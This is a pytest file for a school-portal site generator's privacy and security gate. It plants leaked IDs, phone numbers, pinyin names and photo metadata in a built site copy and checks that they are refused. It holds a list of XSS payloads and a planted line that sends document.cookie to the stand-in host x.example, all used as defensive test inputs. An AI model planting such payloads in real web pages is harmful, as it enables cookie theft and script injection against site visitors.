"""Privacy gate over built output (rules 1, 2, 3, 8, 9): the demo county's real build passes; a copy
with leaks planted in the search index, sitemap, file names, images and HTML is refused, file by
file, with the value masked."""

from __future__ import annotations

import gzip
from datetime import datetime, timezone
import shutil
from pathlib import Path

import pytest

from helpers import DEMO_EPOCH, REPO

from helpers import gate_data as gd
from generator.privacy import output_gate as check  # noqa: E402
from generator.records.load import load_county  # noqa: E402
from generator.report.pages import expected_documents  # noqa: E402

SCHOOL = "huangshan-cun"
ROWS = gd.children(6)


def _records(root: Path):
    county = load_county(root)
    return county, next(r for r in county.schools if r.slug == SCHOOL)


def _format(problems) -> str:
    return "\n".join(p.format() for p in problems)


def test_the_demo_build_passes_the_output_gate(demo_site):
    """The demo build itself ran the gate on every school (the fixture asserts exit 0); here one
    school and the portal are checked again for not even a warning."""
    county = load_county(REPO)
    records = next(r for r in county.schools if r.slug == SCHOOL)
    # the term reports (.docx) are allowed only as the documents careportal makes from the records
    documents = expected_documents(county, datetime.fromtimestamp(int(DEMO_EPOCH), timezone.utc).date())
    problems = check.check_output(county, records, demo_site / SCHOOL, documents)
    assert problems == [], _format(problems)
    portal = check.check_portal(county, demo_site, documents)
    assert portal == [], _format(portal)
    assert any(p.path.endswith(".docx") for p in check.check_output(county, records, demo_site / SCHOOL))


@pytest.fixture()
def planted(demo_site, data_root, tmp_path):
    """A copy of one built school site, a register for it, and a way to plant files."""
    gd.write_csv(data_root / "schools" / SCHOOL / "private" / "台账.csv", ROWS)
    site = tmp_path / "site"
    shutil.copytree(demo_site / SCHOOL, site)
    county, records = _records(data_root)
    documents = expected_documents(county, datetime.fromtimestamp(int(DEMO_EPOCH), timezone.utc).date())

    def run() -> list:
        return check.check_output(county, records, site, documents)

    return site, run


def _hits(problems, where: str, label: str) -> list:
    return [p for p in problems if p.path.endswith(where) and p.rule == label]


def test_register_name_as_json_escapes_in_the_search_index(planted):
    site, run = planted
    index = site / "search" / "search_index.json"
    name = ROWS[2]["姓名"]
    escaped = "".join(f"\\\\u{ord(c):04x}" for c in name).replace("\\\\", "\\")
    index.write_text(index.read_text(encoding="utf-8").replace('"text":"', f'"text":"{escaped} ', 1), encoding="utf-8")
    found = _hits(run(), "search/search_index.json", "台账信息")
    assert found and name not in found[0].message


def test_id_in_the_gzipped_sitemap_and_phone_in_a_file_name(planted):
    site, run = planted
    number = ROWS[0]["身份证号"]
    text = gzip.decompress((site / "sitemap.xml.gz").read_bytes()).decode()
    (site / "sitemap.xml.gz").write_bytes(gzip.compress(text.replace("index.html", f"{number}.html", 1).encode()))
    (site / "news" / f"{gd.full_width('13800138000')}.html").write_text("<p>空</p>", encoding="utf-8")
    (site / "news" / f"{ROWS[3]['姓名']}").mkdir()
    problems = run()
    assert _hits(problems, "sitemap.xml.gz", "身份证号")
    assert _hits(problems, "news/１３８００１３８０００.html", "电话号码")
    assert _hits(problems, f"news/{ROWS[3]['姓名']}", "台账信息")
    assert not any(number in p.format() or "13800138000" in p.format() for p in problems)


def test_id_split_by_tags_in_visible_text(planted):
    site, run = planted
    page = site / "contact.html"
    number = gd.make_id(sequence="777")
    split = f"{number[:4]}<b>{number[4:10]}</b><span>{number[10:]}</span>"
    page.write_text(page.read_text(encoding="utf-8").replace("</article>", f"<p>{split}</p></article>", 1), encoding="utf-8")
    assert _hits(run(), "contact.html", "身份证号")


INJECTIONS = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">点这里</a>',
    '<a href=" jav&#x09;ascript:alert(1)">点这里</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点这里</a>',
    '<script src="https://cdn.example.com/analytics.js"></script>',
    '<script src="../assets/careportal/evil.js"></script>',
    '<iframe src="https://example.com/"></iframe>',
    '<link rel="stylesheet" href="https://fonts.googleapis.com/css?family=Noto">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
]


def test_script_injection_in_built_html_is_refused(planted):
    site, run = planted
    (site / "assets" / "careportal" / "evil.js").write_text("alert(1)", encoding="utf-8")
    pages = sorted((site / "news").glob("2*.html"))[: len(INJECTIONS)]
    assert len(pages) == len(INJECTIONS)
    for page, html in zip(pages, INJECTIONS):
        page.write_text(page.read_text(encoding="utf-8").replace("</article>", html + "</article>", 1), encoding="utf-8")
    problems = run()
    for page, html in zip(pages, INJECTIONS):
        assert _hits(problems, f"news/{page.name}", "网页安全"), html
    untouched = sorted((site / "news").glob("2*.html"))[len(INJECTIONS):]
    assert untouched and not any(_hits(problems, f"news/{p.name}", "网页安全") for p in untouched)


def test_a_stylesheet_loading_fonts_from_outside_is_refused(planted):
    site, run = planted
    (site / "assets" / "careportal" / "extra.css").write_text(
        "body{color:#222}\n@font-face{font-family:x;src:url(https://fonts.gstatic.com/x.woff2)}\n", encoding="utf-8")
    found = _hits(run(), "assets/careportal/extra.css", "网页安全")
    assert [p.line for p in found] == [2]


def test_data_image_urls_and_theme_scripts_pass_but_an_edited_theme_script_does_not(planted):
    site, run = planted
    page = site / "news" / "index.html"
    text = page.read_text(encoding="utf-8")
    pixel = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
    page.write_text(text.replace("</article>", f'<img src="{pixel}" alt="">' + "</article>", 1), encoding="utf-8")
    assert run() == []
    page.write_text(text.replace("__md_scope=new URL(", "fetch('https://x.example/'+document.cookie),__md_scope=new URL(", 1),
                    encoding="utf-8")
    assert _hits(run(), "news/index.html", "网页安全")


def test_images_with_metadata_or_original_names_and_private_files_are_refused(planted, tmp_path):
    site, run = planted
    (site / "photos").mkdir()
    gd.gps_jpeg(site / "photos" / "banhui-linzixuan.jpg", size=(2000, 1500))
    gd.png_with_text(site / "assets" / "careportal" / "badge.png")
    (site / "台账.csv").write_text("姓名\n", encoding="utf-8")
    (site / "news" / "2025-12-liangdishu.yml").write_text("title: x\n", encoding="utf-8")
    problems = run()
    photo = _hits(problems, "photos/banhui-linzixuan.jpg", "照片")
    messages = " ".join(p.message for p in photo)
    assert "EXIF" in messages and "JPEG 注释" in messages and "1280" in messages and "哈希" in messages
    assert _hits(problems, "assets/careportal/badge.png", "照片")
    assert _hits(problems, "台账.csv", "输出文件")
    assert _hits(problems, "news/2025-12-liangdishu.yml", "输出文件")


def test_the_portal_is_scanned_with_every_schools_register(demo_site, data_root, tmp_path):
    gd.write_csv(data_root / "schools" / "liulang-zhongxin" / "private" / "台账.csv", ROWS)
    portal = tmp_path / "portal"
    portal.mkdir()
    for path in demo_site.iterdir():
        if path.is_file():
            shutil.copy(path, portal / path.name)
    county = load_county(data_root)
    documents = expected_documents(county, datetime.fromtimestamp(int(DEMO_EPOCH), timezone.utc).date())
    assert check.check_portal(county, portal, documents) == []
    page = portal / "index.html"
    page.write_text(page.read_text(encoding="utf-8").replace("</main>", f"<p>{ROWS[4]['姓名']}</p></main>", 1),
                    encoding="utf-8")
    found = check.check_portal(county, portal, documents)
    assert [p.rule for p in found] == ["台账信息"] and found[0].path.startswith("（全县首页）")


def test_register_names_in_pinyin_in_file_names_urls_and_the_gzipped_sitemap(planted):
    """林梓萱 → lin-zixuan, LinZixuan, Lín Zǐxuān: in a folder name, a link, the sitemap (.gz) and text."""
    from pypinyin import lazy_pinyin

    site, run = planted
    spelled = ["".join(lazy_pinyin(ROWS[i]["姓名"][0])) + "-" + "".join(lazy_pinyin(ROWS[i]["姓名"][1:])) for i in range(4)]
    (site / "news" / spelled[0]).mkdir()
    page = site / "contact.html"
    page.write_text(page.read_text(encoding="utf-8").replace(
        "</article>", f'<p><a href="../news/{spelled[1]}.html">作品</a></p></article>', 1), encoding="utf-8")
    text = gzip.decompress((site / "sitemap.xml.gz").read_bytes()).decode()
    (site / "sitemap.xml.gz").write_bytes(gzip.compress(text.replace("index.html", f"{spelled[2]}/index.html", 1).encode()))
    index = site / "search" / "search_index.json"
    capitalised = spelled[3].replace("-", " ").title()
    index.write_text(index.read_text(encoding="utf-8").replace('"text":"', f'"text":"{capitalised} ', 1), encoding="utf-8")
    problems = run()
    assert _hits(problems, f"news/{spelled[0]}", "台账信息")
    assert _hits(problems, "contact.html", "台账信息")
    assert _hits(problems, "sitemap.xml.gz", "台账信息")
    assert _hits(problems, "search/search_index.json", "台账信息")
    assert not any(s.replace("-", "") in p.format() for p in problems for s in spelled)


def test_the_portal_feed_is_scanned_for_register_names_in_pinyin(demo_site, data_root, tmp_path):
    from pypinyin import lazy_pinyin

    gd.write_csv(data_root / "schools" / "liulang-zhongxin" / "private" / "台账.csv", ROWS)
    portal = tmp_path / "portal"
    shutil.copytree(demo_site, portal, ignore=shutil.ignore_patterns(*[p.name for p in demo_site.iterdir() if p.is_dir()]))
    county = load_county(data_root)
    documents = expected_documents(county, datetime.fromtimestamp(int(DEMO_EPOCH), timezone.utc).date())
    assert check.check_portal(county, portal, documents) == []
    feeds = [p for p in portal.iterdir() if p.suffix in {".xml", ".json"} and "feed" in p.name]
    assert feeds, sorted(p.name for p in portal.iterdir())
    name = "".join(lazy_pinyin(ROWS[5]["姓名"]))
    feeds[0].write_text(feeds[0].read_text(encoding="utf-8").replace("<title>", f"<title>{name} ", 1), encoding="utf-8")
    assert [p.rule for p in check.check_portal(county, portal, documents)] == ["台账信息"]
